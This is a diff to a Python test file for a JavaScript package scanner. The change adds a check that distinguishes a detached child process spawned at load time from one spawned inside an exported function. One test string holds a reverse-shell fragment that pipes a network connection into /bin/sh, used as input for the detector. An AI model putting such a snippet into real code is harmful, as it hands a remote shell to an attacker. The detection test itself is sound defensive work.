@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from assay.javascript.acts import DETACHED, MAX_ACTS, TIED
+from assay.javascript.acts import AT_LOAD, DETACHED, MAX_ACTS, TIED
 from assay.javascript.alarms import has_alarms
 from assay.javascript.read import read
 from assay.model.source import Behaviour, BehaviourKind
@@ -45,6 +45,8 @@ def test_what_runs_on_installation_is_followed_though_no_word_of_it_alarms() -> 
 
 def test_a_process_that_lives_on_and_a_shell_on_a_connection_are_told() -> None:
     (act,) = acts("require('child_process').spawn('node', ['x.js'], { detached: true })")
+    assert act.detail.endswith(DETACHED + AT_LOAD)
+    (act,) = acts("exports.f = () => require('child_process').spawn('node', ['x.js'], { detached: true })")
     assert act.detail.endswith(DETACHED)
     code = (
         "const s = require('net').connect(1, 'h'); const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin)"
